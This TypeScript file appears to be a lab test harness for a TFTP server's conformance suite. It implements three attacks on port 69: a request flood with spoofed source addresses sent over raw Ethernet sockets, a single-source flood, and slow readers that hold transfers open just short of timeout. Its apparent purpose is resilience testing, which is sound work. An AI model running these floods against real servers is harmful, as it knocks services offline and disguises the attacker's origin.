/**
 * Abuse of TFTP; a program to be run on a host of the lab: `node abuse-tftp.js KIND SERVER MAC SECONDS`, MAC being the
 * server's. It says `done N`, N being the octets that left in frames.
 *
 * `forged`: requests in the names of other machines, from ever new ports; `flood`: the same in one machine's own name;
 * `slow`: transfers that are acknowledged just before they would be given up.
 */

import { Refusal } from "../../../lib/common/refusal.js";
import { createSocket } from "node:dgram";
import { fileURLToPath } from "node:url";
import { systemError } from "../../../lib/common/error.js";
import { encodeUdpPacket } from "../../../lib/os/frame.js";
import { toIpv4 } from "../../../lib/net/ipv4.js";
import { loadLibc, type Libc } from "../../../lib/os/libc.js";
import { makeAck, makeRequest, readAnswer } from "../../support/tftp-packet.js";
import { ip } from "../../support/values.js";
import type { Host, LabProcess } from "./lab.js";

const PROGRAM = fileURLToPath(import.meta.url);
/** Requests a second (conformance D8), and how many leave together. */
const RATE = 5000;
const BATCH = 50;
/** The forged addresses: the first one, and their number. */
const FORGED = { first: ip("10.77.0.150"), count: 100, flooder: ip("10.77.0.150") };
const SLOW_READERS = 200;
/** Time that a slow reader waits, in milliseconds: the server repeats after two seconds. */
const SLOWNESS = 1900;

const AF_PACKET = 17;
const SOCK_RAW = 3;
const ETHERNET_HEADER = 14;

/** Starts it on a host; its frames come from the interface eth0. */
export function startTftpAbuse(
  host: Host,
  kind: "forged" | "flood" | "slow",
  { server, mac, seconds }: { readonly server: string; readonly mac: string; readonly seconds: number },
): LabProcess {
  return host.start(process.execPath, [PROGRAM, kind, server, mac, `${seconds}`]);
}

/** Sends frames as they are. */
class Wire {
  readonly #libc: Libc;
  readonly #descriptor: number;
  readonly #header: Buffer;
  octets = 0;

  constructor(libc: Libc, destination: string) {
    this.#libc = libc;
    this.#descriptor = libc.socket(AF_PACKET, SOCK_RAW, 0);
    const address = Buffer.alloc(20);
    address.writeUInt16LE(AF_PACKET, 0);
    address.writeUInt16BE(0x0800, 2);
    address.writeInt32LE(libc.if_nametoindex("eth0"), 4);
    if (libc.bind(this.#descriptor, address, address.length) < 0) throw systemError(libc.errno(), "bind");
    this.#header = Buffer.from(`${destination.replaceAll(":", "")}0200000000070800`, "hex");
  }

  send(packet: Buffer): void {
    const frame = Buffer.concat([this.#header, packet]);
    this.octets += packet.length + ETHERNET_HEADER;
    this.#libc.sendto(this.#descriptor, frame, frame.length, 0, Buffer.alloc(0), 0);
  }
}

async function flood(forged: boolean, server: string, mac: string, seconds: number): Promise<number> {
  const libc = await loadLibc();
  if (libc instanceof Refusal) throw new Error(libc.cause);
  const wire = new Wire(libc, mac);
  const payload = makeRequest("boot.0");
  const destination = { address: ip(server), port: 69 };
  const started = performance.now();
  for (let sent = 0; sent < RATE * seconds;) {
    for (let end = sent + BATCH; sent < end; sent++) {
      const address = forged ? toIpv4(FORGED.first + (sent % FORGED.count)) : FORGED.flooder;
      wire.send(encodeUdpPacket({ source: { address, port: 1024 + (sent % 60_000) }, destination, payload }));
    }
    const early = (sent / RATE) * 1000 - (performance.now() - started);
    await new Promise((resolve) => setTimeout(resolve, Math.max(0, early)));
  }
  return wire.octets;
}

async function readSlowly(server: string, seconds: number): Promise<number> {
  const sockets = Array.from({ length: SLOW_READERS }, () => createSocket("udp4"));
  for (const socket of sockets) {
    socket.on("message", (data, { port }) => {
      const answer = readAnswer(data);
      if (answer.kind !== "data") return;
      setTimeout(() => {
        socket.send(makeAck(answer.block), port, server);
      }, SLOWNESS);
    });
    socket.send(makeRequest("boot.0"), 69, server);
  }
  await new Promise((resolve) => setTimeout(resolve, seconds * 1000));
  return 0;
}

async function run([kind = "", server = "", mac = "", seconds = ""]: readonly string[]): Promise<void> {
  const slow = kind === "slow";
  const octets = slow
    ? await readSlowly(server, Number(seconds))
    : await flood(kind === "forged", server, mac, Number(seconds));
  process.stdout.write(`done ${octets}\n`);
}

if (process.argv[1] === PROGRAM) {
  await run(process.argv.slice(2));
  process.exit();
}
